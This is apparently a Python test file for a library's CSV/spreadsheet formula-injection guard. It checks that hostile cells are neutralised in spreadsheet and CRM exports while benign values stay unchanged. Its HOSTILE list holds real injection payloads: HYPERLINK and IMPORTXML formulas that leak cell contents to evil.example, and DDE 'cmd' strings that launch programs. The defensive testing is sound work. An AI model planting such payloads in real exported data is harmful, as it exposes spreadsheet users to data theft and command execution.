"""The formula-injection guard: hostile cells come out inert, everything else unchanged."""

from __future__ import annotations

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from graphkit.export import GuardReport, guard_crm, guard_spreadsheet, unguard_spreadsheet
from graphkit.export.guard import is_formula

# Payloads from OWASP's CSV injection page and common proofs of concept.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
]
BENIGN = ["Ada Brightwater", "陈静", "a=b", "maya_builds", "O'Neil", "", "x-ray", "CTO @ Acme"]

text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12)
risky = st.lists(
    st.one_of(
        text,
        st.builds(lambda head, tail: head + tail, st.sampled_from(["=", "+", "-", "@", "\t",
                  "\r", "\n", "'", "''", " =", "'=", "@@"]), text),
        st.none(),
    ),
    max_size=20,
)  # fmt: skip


def _spreadsheet_sees_formula(cell: str | None) -> bool:
    """What a spreadsheet does: blanks skipped, = + - @ start a formula; a tab/CR/LF first too."""
    if cell is None or cell.startswith("'"):
        return False
    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_payloads_are_formulas_and_come_out_inert(payload: str) -> None:
    assert is_formula(payload)
    frame = pl.DataFrame({"name": [payload]})
    assert guard_spreadsheet(frame)["name"][0] == "'" + payload
    crm = guard_crm(frame)["name"][0]
    assert crm.startswith("'")
    assert crm[1:] == payload.lstrip(" \t\r\n")


@pytest.mark.parametrize("value", BENIGN)
def test_benign_text_is_untouched(value: str) -> None:
    frame = pl.DataFrame({"name": [value], "handle": [value]})
    assert not is_formula(value)
    assert guard_spreadsheet(frame).equals(frame)
    assert guard_crm(frame, handle_columns=["handle"]).equals(frame)


def test_numbers_are_not_guarded() -> None:
    frame = pl.DataFrame({"score": [-1.5, 2.0], "rank": [-3, 4]})
    assert guard_spreadsheet(frame).equals(frame)
    assert guard_crm(frame).equals(frame)


def test_crm_guard_strips_what_is_not_part_of_the_value_and_reports_it() -> None:
    frame = pl.DataFrame(
        {
            "Handle": ["@maya_builds", "@@=HYPERLINK(1)", "plain", " \t@x"],
            "Name": ["\tAda", "=1+1", "Bob", "-Carol-"],
        }
    )
    report = GuardReport("crm")
    guarded = guard_crm(frame, report, handle_columns=["Handle"], table="contacts")
    assert guarded["Handle"].to_list() == ["maya_builds", "'=HYPERLINK(1)", "plain", "x"]
    assert guarded["Name"].to_list() == ["Ada", "'=1+1", "Bob", "'-Carol-"]
    assert report.changed == 6
    reasons = {(row, column): why for table, row, column, why in report.cells}
    assert {table for table, *_ in report.cells} == {"contacts"}
    assert reasons[(1, "Handle")] == "handle @ removed"
    assert reasons[(2, "Handle")] == "handle @ removed; prefixed"
    assert reasons[(4, "Handle")] == "leading blanks removed; handle @ removed"
    assert reasons[(1, "Name")] == "leading blanks removed"
    assert reasons[(2, "Name")] == "prefixed"


@given(risky)
def test_spreadsheet_guard_is_reversible_and_leaves_no_formula(values: list[str | None]) -> None:
    frame = pl.DataFrame({"cell": values}, schema={"cell": pl.String})
    report = GuardReport("spreadsheet")
    guarded = guard_spreadsheet(frame, report)
    assert unguard_spreadsheet(guarded).equals(frame)
    assert not any(_spreadsheet_sees_formula(cell) for cell in guarded["cell"])
    changed = sum(a != b for a, b in zip(frame["cell"], guarded["cell"], strict=True))
    assert report.changed == changed


@given(risky)
def test_crm_guard_leaves_no_formula_and_changes_only_risky_cells(
    values: list[str | None],
) -> None:
    frame = pl.DataFrame({"handle": values, "name": values}, schema={"handle": pl.String,
                         "name": pl.String})  # fmt: skip
    guarded = guard_crm(frame, handle_columns=["handle"])
    for column in ("handle", "name"):
        for before, after in zip(frame[column], guarded[column], strict=True):
            assert not _spreadsheet_sees_formula(after)
            if before is None:
                assert after is None
            elif after.startswith("'") and not before.lstrip(" \t\r\n@").startswith("'"):
                assert after[1:].lstrip("@") == before.lstrip(" \t\r\n@").lstrip("@")
            else:
                assert before.endswith(after)  # only leading characters were removed
